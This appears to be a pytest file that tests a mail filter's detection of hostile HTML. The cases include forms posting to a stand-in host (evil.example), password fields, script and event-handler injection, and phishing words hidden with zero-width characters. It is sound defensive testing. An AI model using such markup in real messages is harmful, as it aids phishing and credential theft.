import pytest

from tempory.verdict.outcome import Code
from tests.verdict.letters import codes_of, facts_of, letter, link


@pytest.mark.parametrize(
    ("html", "code"),
    [
        ('<form method=post action="https://evil.example/p"><input name=x></form>', Code.FORM_IN_MAIL),
        ("<FORM action=x><INPUT type='password'></FORM>", Code.PASSWORD_IN_MAIL),
        ("<p>hi<script>x()</script>", Code.SCRIPT_IN_MAIL),
        ("<p>a=b<img src=x onError=y()>", Code.SCRIPT_IN_MAIL),
        ("<body onload=y()>", Code.SCRIPT_IN_MAIL),
        ("<p ONMOUSEOVER=y()>", Code.SCRIPT_IN_MAIL),
        ("<p>" + "pass\u200bword acc\u200bount ver\u200bify lo\u200bgin", Code.HIDDEN_TEXT),
        (link("https://evil.example/x", '<img src="cid:1">'), Code.PICTURE_ONLY),
    ],
)
def test_markup_that_does_what_a_letter_need_not(html: str, code: Code) -> None:
    assert code in codes_of(letter("", html=html))


@pytest.mark.parametrize(
    "html",
    [
        "<p>onload= you, error=, mouseover=</p>",
        "<p>Fill in this form, password and script.</p>",
        "<p>\u200b\u200bnew \u200b</p>",
        "<form>",
    ],
)
def test_markup_that_does_nothing(html: str) -> None:
    assert not codes_of(letter("", html=html))


def test_a_subject_with_its_letters_apart() -> None:
    assert Code.HIDDEN_TEXT in codes_of(letter(subject="Pa\u200bsswo\u200brd"))


def test_the_body_begins_at_its_first_tag_or_after_the_last_style_sheet() -> None:
    words = "<p>one</p>"
    assert facts_of(letter("", html=f"<body>{words}<body>two")).markup.startswith("<body><p>one")
    assert facts_of(letter("", html=f"<p>x<BODY>{words}<body>two")).markup.startswith("<BODY><p>one")
    assert facts_of(letter("", html=f"<body><style>a</STYLE>{words}")).markup.startswith("</STYLE><p>one")
